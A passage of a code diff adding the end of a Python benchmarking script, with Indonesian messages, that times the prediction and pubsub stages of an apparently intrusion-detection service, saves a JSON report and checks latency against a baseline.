+        print(f"[Benchmark] Gagal memuat modul proyek: {e}")
+        return 2
+
+    # Log sintetis tidak boleh bercampur dengan log deteksi intrusi yang sebenarnya
+    app_module.app.logger.disabled = True
+
+    requests = TrafficGenerator(args.mix, args.repeat_rate, args.seed).generate(args.requests)
+    expected_hits = expected_cache_hit_ratio(requests, build_stage_inputs(requests, utils)["input_texts"])
+    round_results = []
+    for _ in range(args.rounds):
+        results = {}
+        if "micro" in scenarios:
+            results.update(bench_micro(requests, args.iterations, utils, predict_module, expected_hits))
+        if "predict" in scenarios:
+            results.update(bench_predict_endpoint(
+                requests, args.backend, app_module, predict_module, expected_hits, args.queue, args.rate
+            ))
+        if "pubsub" in scenarios:
+            results.update(bench_pubsub(requests, args.backend, app_module, predict_module, args.channel, args.rate))
+        round_results.append(results)
+    results = merge_rounds(round_results)
+
+    report = {
+        "schema": RESULT_SCHEMA_VERSION,
+        "created_at": datetime.datetime.now().strftime("%Y-%m-%d %H:%M:%S"),
+        "backend": args.backend,
+        "git_commit": git_commit(),
+        "environment": {
+            "python": platform.python_version(),
+            "platform": platform.platform(),
+            "cpu_count": os.cpu_count(),
+        },
+        "config": {
+            "requests": args.requests,
+            "iterations": args.iterations,
+            "rounds": args.rounds,
+            "mix": args.mix,
+            "repeat_rate": args.repeat_rate,
+            "seed": args.seed,
+            "rate": args.rate,
+            "scenarios": scenarios,
+        },
+        "results": results,
+    }
+
+    os.makedirs(args.output, exist_ok=True)
+    filename = f"{args.backend}-{datetime.datetime.now().strftime('%Y%m%d-%H%M%S')}.json"
+    output_path = os.path.join(args.output, filename)
+    with open(output_path, "w") as f:
+        json.dump(report, f, indent=2)
+
+    print_results(results)
+    print(f"[Benchmark] Hasil disimpan di {output_path}")
+
+    exit_code = 0
+    problems = check_results(results, args.backend)
+    for problem in problems:
+        print(f"[Benchmark] {problem}")
+    if problems:
+        exit_code = 1
+
+    if args.baseline:
+        with open(args.baseline) as f:
+            baseline = json.load(f)
+        thresholds = {"p50_us": args.threshold, "p99_us": args.p99_threshold}
+        try:
+            regressions, missing = compare_results(report, baseline, thresholds)
+        except ValueError as e:
+            print(f"[Benchmark] {e}")
+            return 2
+        if missing:
+            print(f"[Benchmark] {len(missing)} tahap baseline tidak dijalankan: {', '.join(missing)}")
+        if regressions:
+            print(f"[Benchmark] {len(regressions)} regresi melebihi ambang "
+                  f"(p50 {args.threshold:.0%}, p99 {args.p99_threshold:.0%})")
+            exit_code = 1
+    return exit_code
+
+
+if __name__ == "__main__":
+    sys.exit(main())